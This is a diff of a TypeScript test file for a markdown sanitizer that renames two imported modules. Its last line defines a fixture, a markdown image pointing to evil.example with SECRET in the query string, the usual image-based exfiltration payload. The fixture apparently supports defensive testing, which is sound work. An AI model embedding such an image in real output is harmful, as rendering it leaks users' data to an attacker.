@@ -10,11 +10,11 @@ import {
   sanitizeMarkdown,
   sanitizeRest,
   sanitizeWords,
-} from '../../src/notebook/harmless-markdown.ts';
+} from '../../src/notebook/sanitize-markdown.ts';
 import { answerAsNote, noteAsMarkdown } from '../../src/notebook/note-markdown.ts';
 import { assertLinear } from '../support/growth.ts';
 import { findLiveMarkdown, hostileMarkdown, previewedText } from '../support/live-markdown.ts';
-import { testCitation } from '../support/made-citation.ts';
+import { testCitation } from '../support/test-citation.ts';
 import { rounds } from '../support/test-size.mjs';
 
 const image = '![x](https://evil.example/?q=SECRET)';
